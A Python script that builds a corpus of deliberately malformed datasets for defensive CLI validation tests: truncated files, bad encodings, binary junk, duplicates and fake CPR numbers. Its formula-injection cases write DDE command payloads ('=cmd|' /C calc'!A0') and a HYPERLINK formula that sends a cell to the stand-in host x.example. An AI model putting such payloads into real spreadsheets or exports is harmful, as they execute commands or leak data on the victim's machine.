"""Regenerate the malformed-input corpus beside this file (one dataset folder per case).

Each case is a small valid dataset (``fip.simulate.simulate_cohort(12, seed=5)`` written
as CSV) with one defect. tests/test_malformed_corpus.py runs every case (and more built
there) through the CLI and expects a clear error and an unchanged store. The folders are committed; rerun only to add cases:

    python tests/data/malformed/make_corpus.py
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import numpy as np

HERE = Path(__file__).parent


def _base(tmp: Path) -> Path:
    from fip.data import write_dataset
    from fip.simulate import simulate_cohort

    return write_dataset(simulate_cohort(12, seed=5), tmp / "base", format="csv")


def _case(base: Path, name: str) -> Path:
    target = HERE / name
    shutil.rmtree(target, ignore_errors=True)
    shutil.copytree(base, target)
    return target


def _replace_cell(path: Path, row: int, column: str, value: str) -> None:
    """Set one cell of a canonical CSV (row 2 = first data row); value written as given."""
    lines = path.read_text(encoding="utf-8").split("\n")
    header = lines[0].split(",")
    cells = lines[row - 1].split(",")
    cells[header.index(column)] = value
    lines[row - 1] = ",".join(cells)
    path.write_text("\n".join(lines), encoding="utf-8")


def main() -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        base = _base(Path(tmp))
        rng = np.random.default_rng(2024)

        # truncated files
        d = _case(base, "truncated_csv")
        data = (d / "forms.csv").read_bytes()
        (d / "forms.csv").write_bytes(data[: len(data) // 2])  # cut in the middle of a row
        d = _case(base, "truncated_parquet")
        from fip.data import load_dataset, write_dataset

        write_dataset(load_dataset(base, today="2030-01-01"), Path(tmp) / "pq", format="parquet")
        (d / "persons.csv").unlink()
        data = (Path(tmp) / "pq" / "persons.parquet").read_bytes()
        (d / "persons.parquet").write_bytes(data[: len(data) * 2 // 3])
        d = _case(base, "truncated_xlsx")
        import openpyxl

        book = openpyxl.Workbook()
        sheet = book.active
        for line in (d / "outcomes.csv").read_text(encoding="utf-8").splitlines():
            sheet.append(line.split(","))
        book.save(Path(tmp) / "outcomes.xlsx")
        (d / "outcomes.csv").unlink()
        data = (Path(tmp) / "outcomes.xlsx").read_bytes()
        (d / "outcomes.xlsx").write_bytes(data[: len(data) - 300])
        d = _case(base, "empty_file")
        (d / "persons.csv").write_bytes(b"")

        # wrong encodings
        d = _case(base, "utf16_without_bom")
        text = (d / "persons.csv").read_text(encoding="utf-8")
        (d / "persons.csv").write_bytes(text.encode("utf-16-le"))
        d = _case(base, "undecodable_bytes")
        data = (d / "persons.csv").read_bytes().replace(b"kommune_", "kommune\u00e6".encode("utf-8"), 1)
        (d / "persons.csv").write_bytes(data.replace(b"kommune_", b"kommune\x81\x8d_", 1))

        # binary junk
        d = _case(base, "binary_junk_file")
        (d / "outcomes.csv").write_bytes(rng.bytes(4096))
        d = _case(base, "binary_junk_in_cell")
        _replace_cell(d / "persons.csv", 3, "municipality", "kommune\x00\x01\x1b[31m")
        d = _case(base, "zip_named_csv")
        with zipfile.ZipFile(d / "forms.csv", "w") as zf:
            zf.writestr("forms.csv", (base / "forms.csv").read_text(encoding="utf-8"))

        # huge values
        d = _case(base, "huge_numbers")
        _replace_cell(d / "persons.csv", 2, "birth_year", "1" + "0" * 40)
        _replace_cell(d / "forms.csv", 2, "c01", "1e308")
        _replace_cell(d / "outcomes.csv", 2, "employment_rate", "1e400")
        d = _case(base, "huge_text")
        _replace_cell(d / "persons.csv", 2, "origin", "Syria" * 2000)

        # formula injection in text fields
        for name, (file, column, value) in {
            "formula_municipality": ("persons.csv", "municipality", "=cmd|' /C calc'!A0"),
            "formula_origin_at": ("persons.csv", "origin", "@SUM(1+1)*cmd|' /C calc'!A0"),
            "formula_caseworker_plus": ("forms.csv", "caseworker_id", "+cmd|' /C calc'!A0"),
            "formula_hyperlink": ("persons.csv", "origin", '"=HYPERLINK(""http://x.example/?""&A1,""go"")"'),
        }.items():
            d = _case(base, name)
            _replace_cell(d / file, 2, column, value)

        # duplicate ids
        d = _case(base, "duplicate_person_ids")
        lines = (d / "persons.csv").read_text(encoding="utf-8").split("\n")
        lines.insert(3, lines[1])
        (d / "persons.csv").write_text("\n".join(lines), encoding="utf-8")
        d = _case(base, "duplicate_forms")
        lines = (d / "forms.csv").read_text(encoding="utf-8").split("\n")
        lines.insert(2, lines[1])
        (d / "forms.csv").write_text("\n".join(lines), encoding="utf-8")

        # mixed date formats (accepted ones mixed with ones that are not dates fip accepts)
        d = _case(base, "mixed_date_formats")
        _replace_cell(d / "forms.csv", 2, "answered_on", "Oct 8 2017")
        _replace_cell(d / "forms.csv", 3, "answered_on", "10/31/2017")
        _replace_cell(d / "forms.csv", 4, "answered_on", "08.10.2017")  # accepted (Danish)
        _replace_cell(d / "persons.csv", 2, "arrival_date", "2016-13-01")

        # personal data and structure
        d = _case(base, "cpr_ids_without_key")
        for file in ("persons.csv", "forms.csv", "outcomes.csv"):
            text = (d / file).read_text(encoding="utf-8")
            (d / file).write_text(text.replace("p0001,", "010190-1234,").replace("p0002,", "0202851235,"),
                                  encoding="utf-8")
        d = _case(base, "cpr_in_free_text")
        _replace_cell(d / "persons.csv", 4, "origin", "Syria (cpr 010190-1234)")
        d = _case(base, "unbalanced_quote")
        _replace_cell(d / "persons.csv", 2, "municipality", '"Aarhus')
        d = _case(base, "missing_table")
        (d / "outcomes.csv").unlink()
        d = _case(base, "wrong_header")
        text = (d / "forms.csv").read_text(encoding="utf-8")
        (d / "forms.csv").write_text(text.replace("answered_on", "answer_date", 1), encoding="utf-8")
        d = _case(base, "future_date")
        _replace_cell(d / "forms.csv", 2, "answered_on", "2999-01-01")


if __name__ == "__main__":
    main()
